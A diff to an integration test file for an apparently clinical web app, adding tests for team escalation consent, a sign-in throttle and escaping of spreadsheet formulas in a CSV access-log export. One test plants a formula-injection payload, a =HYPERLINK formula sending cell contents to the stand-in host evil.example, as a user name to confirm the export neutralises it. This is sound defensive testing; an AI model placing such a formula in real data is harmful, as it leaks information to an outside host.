@@ -173,6 +173,29 @@ describe('team-scoped authorization', () => {
     expect((await A.admin.post('/api/teams', { name: 'Team C' })).status).toBe(403);
   });
 
+  it("names another team as escalation target only with that team's consent, and tells no team id exists", async () => {
+    const toB = await A.admin.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: B.teamId });
+    const toNowhere = await A.admin.request('PATCH', `/api/teams/${A.teamId}`, {
+      escalationTeamId: '00000000-0000-4000-8000-000000000000',
+    });
+    for (const answer of [toB, toNowhere]) {
+      expect(answer.status).toBe(400);
+      expect(answer.body.error.field).toBe('escalationTeamId');
+    }
+    expect(toB.body).toEqual(toNowhere.body);
+    expect(
+      (await sys.get('/api/teams')).body.teams.find((t: { id: string }) => t.id === A.teamId).escalationTeamId,
+    ).toBe(null);
+    // An admin of both teams consents for both; a sysadmin may set any.
+    const both = await buildTeam(sys, env.system.url, 'Team A on call');
+    await sys.post(`/api/teams/${both.teamId}/members`, { userId: A.adminId, role: 'admin' });
+    expect((await A.admin.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: both.teamId })).status).toBe(
+      200,
+    );
+    expect((await sys.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: B.teamId })).status).toBe(200);
+    expect((await sys.request('PATCH', `/api/teams/${A.teamId}`, { escalationTeamId: null })).status).toBe(200);
+  });
+
   it('refuses everything but sign-in without a session', async () => {
     const anonymous = env.client();
     for (const path of ['/api/me', '/api/teams', '/api/patients', `/api/patients/${A.patientId}`]) {
@@ -229,6 +252,18 @@ describe('the audit trail', () => {
     expect(reads.rowCount).toBeGreaterThanOrEqual(3);
   });
 
+  it('neutralises spreadsheet formulas in the CSV extract (a name such as =HYPERLINK(...))', async () => {
+    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Öppna")';
+    const user = await sys.post('/api/users', { email: 'formula@example.se', name: evil, password: PASSWORD });
+    await sys.post(`/api/teams/${A.teamId}/members`, { userId: user.body.id, role: 'nurse' });
+    const reader = await env.client().login('formula@example.se', PASSWORD);
+    await reader.get(`/api/patients/${A.patientId}`);
+    const csv = await A.admin.get(`/api/patients/${A.patientId}/access-log?format=csv`);
+    const line = csv.text.split('\n').find((l) => l.includes('formula@example.se'))!;
+    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Öppna"")"`);
+    expect(line.split(',').some((cell) => cell.startsWith('='))).toBe(false);
+  });
+
   it('records logins, failed logins and device pairing', async () => {
     const actions = await env.system.db.pool.query(
       `select action, outcome, count(*)::int as n from audit_events group by 1, 2`,
@@ -278,32 +313,6 @@ describe('sign-in', () => {
     }
   });
 
-  it('locks an account after five failures in a row, even for the right password', async () => {
-    await sys.post('/api/users', { email: 'locked@example.se', name: 'Soon Locked', password: PASSWORD });
-    const codes: string[] = [];
-    for (let i = 0; i < 5; i++)
-      codes.push(
-        (await env.client().post('/api/auth/login', { email: 'locked@example.se', password: 'guess number ' + i })).body
-          .error.code,
-      );
-    expect(codes).toEqual([
-      'INVALID_CREDENTIALS',
-      'INVALID_CREDENTIALS',
-      'INVALID_CREDENTIALS',
-      'INVALID_CREDENTIALS',
-      'ACCOUNT_LOCKED',
-    ]);
-    const right = await env.client().post('/api/auth/login', { email: 'locked@example.se', password: PASSWORD });
-    expect(right.status).toBe(401);
-    expect(right.body.error.code).toBe('ACCOUNT_LOCKED');
-    await env.system.db.pool.query(
-      `update users set locked_until = now() - interval '1 second' where email = 'locked@example.se'`,
-    );
-    expect(
-      (await env.client().post('/api/auth/login', { email: 'locked@example.se', password: PASSWORD })).status,
-    ).toBe(200);
-  });
-
   it('signs out an idle session and an expired one', async () => {
     const tab = await env.client().login('nurse@team-a.example.se', PASSWORD);
     expect((await tab.get('/api/me')).status).toBe(200);
@@ -340,23 +349,83 @@ describe('sign-in', () => {
     );
     expect(sameSite.status).toBe(200);
   });
+});
 
-  it('rate-limits sign-in attempts from one address', async () => {
-    const limited = await startTestSystem('postgres');
-    try {
-      const statuses: number[] = [];
-      for (let i = 0; i < 31; i++)
-        statuses.push(
-          (await limited.client().post('/api/auth/login', { email: 'x@example.se', password: 'whatever it is' }))
-            .status,
-        );
-      expect(statuses.slice(0, 30).every((s) => s === 401)).toBe(true);
-      const last = await limited.client().post('/api/auth/login', { email: ADMIN.email, password: ADMIN.password });
-      expect(last.status).toBe(429);
-      expect(Number(last.headers.get('retry-after'))).toBeGreaterThan(0);
-    } finally {
-      await limited.stop();
-    }
+// Issue 18 item 6 and issue 11 item 4: failed sign-ins slow down per account and per source;
+// nothing is locked, unknown and real accounts answer alike, successes never count.
+describe('sign-in throttle', () => {
+  let quiet: Awaited<ReturnType<typeof startTestSystem>>;
+  let root: Client;
+  beforeAll(async () => {
+    // Behind a trusted proxy on loopback, so a test can speak from another address.
+    quiet = await startTestSystem('postgres', { TRUST_PROXY: 'loopback' });
+    root = await quiet.client().login(ADMIN.email, ADMIN.password);
+  });
+  afterAll(() => quiet?.stop());
+
+  const attempt = (email: string, password: string) => quiet.client().post('/api/auth/login', { email, password });
+  const codeOf = (answer: { status: number; body: { error?: { code: string } } }) =>
+    answer.status === 200 ? 'OK' : answer.body.error!.code;
+
+  it('slows an account after five failures, an unknown address exactly alike, and lets the owner in after the wait', async () => {
+    await root.post('/api/users', { email: 'guessed@example.se', name: 'Guessed', password: PASSWORD });
+    const sequence = async (email: string) => {
+      const codes: string[] = [];
+      for (let i = 0; i < 6; i++) codes.push(codeOf(await attempt(email, `guess number ${i}`)));
+      return codes;
+    };
+    const real = await sequence('guessed@example.se');
+    const unknown = await sequence('nobody-here@example.se');
+    const expected = [...Array(5).fill('INVALID_CREDENTIALS'), 'RATE_LIMITED'];
+    expect(real).toEqual(expected);
+    expect(unknown).toEqual(expected);
+    // While the wait runs even the right password waits (nothing is verified), with the same answer.
+    const early = await attempt('guessed@example.se', PASSWORD);
+    expect(early.status).toBe(429);
+    const wait = Number(early.headers.get('retry-after'));
+    expect(wait).toBeGreaterThanOrEqual(1);
+    expect(wait).toBeLessThanOrEqual(2);
+    await new Promise((r) => setTimeout(r, wait * 1000 + 100));
+    expect((await attempt('guessed@example.se', PASSWORD)).status).toBe(200);
+    // A success starts the account afresh.
+    expect(codeOf(await attempt('guessed@example.se', 'wrong again'))).toBe('INVALID_CREDENTIALS');
+  });
+
+  it('counts concurrent guesses atomically: twelve at once, five checked', async () => {
+    await root.post('/api/users', { email: 'burst@example.se', name: 'Burst', password: PASSWORD });
+    const answers = await Promise.all(
+      Array.from({ length: 12 }, (_, i) => attempt('burst@example.se', `parallel guess ${i}`)),
+    );
+    const codes = answers.map(codeOf);
+    expect(codes.filter((c) => c === 'INVALID_CREDENTIALS')).toHaveLength(5);
+    expect(codes.filter((c) => c === 'RATE_LIMITED')).toHaveLength(7);
+    const checked = await quiet.system.db.pool.query(
+      `select count(*)::int as n from audit_events e join users u on u.id = e.actor_user_id
+       where e.action = 'auth.login' and e.detail->>'reason' = 'wrong_password' and u.email = 'burst@example.se'`,
+    );
+    expect(checked.rows[0].n).toBe(5);
+  });
+
+  it('never counts successes: a ward behind one address signs in sixty times at shift change', async () => {
+    await root.post('/api/users', { email: 'ward@example.se', name: 'Ward Nurse', password: PASSWORD });
+    const statuses: number[] = [];
+    for (let i = 0; i < 60; i++) statuses.push((await attempt('ward@example.se', PASSWORD)).status);
+    expect(statuses.every((s) => s === 200)).toBe(true);
+  });
+
+  it('slows one address that guesses many accounts after fifty failures, without touching other addresses', async () => {
+    // Addresses of their own (behind the trusted proxy): the tests above failed from loopback.
+    const from = (address: string, email: string) =>
+      quiet
+        .client()
+        .request('POST', '/api/auth/login', { email, password: 'spring2026!' }, { 'x-forwarded-for': address });
+    const codes: string[] = [];
+    for (let i = 0; i < 50; i++) codes.push(codeOf(await from('203.0.113.9', `spray-${i}@example.se`)));
+    expect(codes).toEqual(Array(50).fill('INVALID_CREDENTIALS'));
+    const next = await from('203.0.113.9', 'spray-new@example.se');
+    expect(codeOf(next)).toBe('RATE_LIMITED');
+    expect(Number(next.headers.get('retry-after'))).toBeGreaterThan(0);
+    expect(codeOf(await from('198.51.100.7', 'spray-new@example.se'))).toBe('INVALID_CREDENTIALS');
   });
 });
 
